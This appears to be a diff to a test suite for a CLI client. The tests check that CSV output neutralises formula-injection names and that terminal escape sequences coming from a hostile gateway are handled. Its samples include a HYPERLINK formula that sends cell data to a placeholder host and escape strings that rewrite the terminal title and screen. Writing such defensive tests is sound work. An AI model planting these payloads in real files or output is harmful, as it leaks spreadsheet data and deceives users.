@@ -120,8 +120,8 @@ describe("a hostile or broken gateway cannot crash, exhaust or deceive the clien
         const hostile = [
             { externalKey: "f1", name: '=HYPERLINK("http://x.example/?"&A1,"click")' },
             { externalKey: "f2", name: "@SUM(1+1)" },
-            { externalKey: "f3", name: "+82 10 1234" },
-            { externalKey: "f4", name: "-1" },
+            { externalKey: "f3", name: "+A1" },
+            { externalKey: "f4", name: "-2+3" },
             { externalKey: "f5", name: "\tTab" },
             { externalKey: "t1", name: `${ESC}]0;pwned\u0007${ESC}[2Jcleared\rall good` },
             { externalKey: "t2", name: "c1\u009b31mred" },
@@ -138,7 +138,7 @@ describe("a hostile or broken gateway cannot crash, exhaust or deceive the clien
                 .map((line) => line.split(",").slice(1).join(","));
             assert.deepEqual(
                 names,
-                [`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`, "'@SUM(1+1)", "'+82 10 1234", "'-1", "'\tTab"].map((n) => n + ",".repeat(8)),
+                [`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`, "'@SUM(1+1)", "'+A1", "'-2+3", "'\tTab"].map((n) => n + ",".repeat(8)),
             );
             const raw = await runCli(["mcc-users", "--company", COMPANY, "--endpoint", emulator.url, "--output", "csv", "--csv-raw"]);
             assert.match(raw.stdout, /\r\nf2,@SUM\(1\+1\),/);
